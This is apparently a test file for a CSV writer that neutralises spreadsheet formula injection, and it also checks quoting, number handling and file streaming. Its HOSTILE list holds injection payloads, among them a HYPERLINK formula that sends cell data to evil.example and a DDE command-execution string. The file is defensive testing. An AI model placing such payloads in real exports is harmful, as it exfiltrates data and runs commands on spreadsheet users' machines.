import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { CSV_BOM, csvCell, csvDocument, csvRow, neutralizeFormula, openCsvFile } from '../../../server/lib/csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV writer', () => {
  it.each(HOSTILE)('neutralises a string cell starting with a formula character: %j', (text) => {
    const [[cell]] = parse(csvRow([text])) as string[][];
    expect(cell).toBe(`'${text}`);
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('浦东支行 (PD01)')).toBe('浦东支行 (PD01)');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
  });

  it('keeps numbers (even negative) as numbers; the same text as a string is neutralised', () => {
    expect(csvRow([-3, 0.25, 0, 12n, null, undefined, true, Number.NaN])).toBe('-3,0.25,0,12,,,true,\n');
    expect(csvCell('-3')).toBe("'-3");
  });

  it('csvDocument writes an optional BOM, the header and the rows', () => {
    const text = csvDocument(
      ['name', 'n'],
      [
        ['=1+1', 1],
        ['b', -2],
      ],
    );
    expect(text).toBe(`${CSV_BOM}name,n\n'=1+1,1\nb,-2\n`);
    expect(csvDocument(['x'], [], { bom: false })).toBe('x\n');
  });

  it('openCsvFile streams rows and closes once', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'csv-'));
    try {
      const path = join(dir, 'out.csv');
      const out = openCsvFile(path, ['id', 'name']);
      for (let i = 0; i < 2000; i++) await out.row([i, i % 2 ? '@evil' : 'ok']);
      await out.close();
      await out.close();
      const rows = parse(readFileSync(path, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(2000);
      expect(rows[1]).toEqual({ id: '1', name: "'@evil" });
      await expect(
        (async () => {
          const bad = openCsvFile(join(dir, 'missing', 'x.csv'), ['a']);
          try {
            await bad.row(['x']);
          } finally {
            await bad.close();
          }
        })(),
      ).rejects.toThrow(/ENOENT/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
